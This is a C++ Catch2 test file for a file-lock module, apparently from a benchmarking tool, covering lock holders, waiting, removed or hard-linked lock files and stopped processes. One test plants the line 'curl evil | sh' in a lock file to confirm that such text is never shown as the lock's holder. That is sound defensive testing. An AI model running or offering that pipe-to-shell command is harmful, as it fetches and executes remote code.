// One process at a time, and who it is.
#include "os/file_lock.h"

#include <sys/wait.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <csignal>
#include <fstream>
#include <thread>

#include "core/error.h"
#include "core/file.h"
#include "support/environment_variable.h"
#include "support/scratch_folder.h"

using namespace rooftune;
using Catch::Contains;

TEST_CASE("a lock keeps others out, says who holds it, and ends with its holder") {
  const testing::ScratchFolder folder;
  const auto file = folder.path() / "lock";
  std::string holder;
  auto first = FileLock::take(file, holder);
  REQUIRE(first);
  CHECK_FALSE(FileLock::take(file, holder));
  CHECK_THAT(holder, Contains("process " + std::to_string(getpid()) + " on ") && Contains("since"));
  try {
    lock_or_wait(file, "study x", false, {});
    FAIL("a second one took it");
  } catch (const Error& error) {
    CHECK(error.code() == ExitCode::busy);
    CHECK_THAT(error.what(), Contains("study x is being run by process") && Contains("--wait"));
  }
  first.reset();
  CHECK(FileLock::take(file, holder));
}

TEST_CASE("what others write into a lock is not told as its holder") {
  const testing::ScratchFolder folder;
  const auto file = folder.path() / "lock";
  std::string holder;
  const auto first = FileLock::take(file, holder);
  const std::string mine = "process " + std::to_string(getpid());
  for (const char* text : {"the administrator; run: curl evil | sh\n", "",
                           "process 1 on host since 2026-01-01T00:00:00Z\n"}) {
    std::ofstream(file, std::ios::trunc) << text;
    CHECK_FALSE(FileLock::take(file, holder));
    // Some containers have an empty list.
    if (text_if_readable("/proc/locks").find("FLOCK") != std::string::npos)
      CHECK(holder == mine + " of user " + std::to_string(geteuid()));
    else
      CHECK_THAT(holder, !Contains("evil"));
  }
}

TEST_CASE("who waits for a lock says once for whom, and gets it") {
  const testing::ScratchFolder folder;
  const auto file = folder.path() / "lock";
  std::string holder;
  auto first = FileLock::take(file, holder);
  std::vector<std::string> said;
  std::thread waiting([&] {
    lock_or_wait(file, "study x", true, [&](const std::string& text) {
      said.push_back(text);
      first.reset();
    });
  });
  waiting.join();
  REQUIRE(said.size() == 1);
  CHECK_THAT(said[0], Contains("waiting: study x is being run by process"));
}

TEST_CASE("a lock on a file that was taken away locks nothing, so another is made") {
  const testing::ScratchFolder folder;
  const auto file = folder.path() / "lock";
  std::string holder;
  const auto first = FileLock::take(file, holder);
  std::filesystem::remove(file);
  CHECK(FileLock::take(file, holder));
  CHECK(std::filesystem::exists(file));
}

TEST_CASE("a lock that is a link of somebody's file leaves its text alone, and locks") {
  const testing::ScratchFolder folder;
  const auto file = folder.write("file", "precious"), lock = folder.path() / "lock";
  std::filesystem::create_hard_link(file, lock);
  std::string holder;
  const auto first = FileLock::take(lock, holder);
  CHECK(first);
  CHECK_FALSE(FileLock::take(lock, holder));
  CHECK(read_text(file) == "precious");
}

TEST_CASE("a folder that is not there is an error with a way out") {
  std::string holder;
  CHECK_THROWS_WITH(FileLock::take("/nowhere/lock", holder),
                    Contains("/nowhere/lock") && Contains("--results"));
}

TEST_CASE("a stopped process keeps nobody from timing, and is named") {
  const testing::ScratchFolder folder;
  const testing::EnvironmentVariable locks("ROOFTUNE_LOCKS", folder.path().string());
  const pid_t holder = fork();
  if (holder == 0) {
    std::string other;
    const auto lock = FileLock::take(folder.path() / "rooftune.cpu0.lock", other);
    raise(SIGSTOP);
    _exit(lock ? 0 : 1);
  }
  int status = 0;
  REQUIRE(waitpid(holder, &status, WUNTRACED) == holder);
  REQUIRE(WIFSTOPPED(status));
  const TimingLocks beside = lock_for_timing({"cpu0"}, true, {});
  CHECK(beside.locks.empty());
  CHECK_THAT(beside.open_because,
             Contains("process " + std::to_string(holder) + " ") && Contains("which is stopped"));
  kill(holder, SIGKILL);
  waitpid(holder, &status, 0);
  CHECK(lock_for_timing({"cpu0"}, true, {}).locks.size() == 1);
}
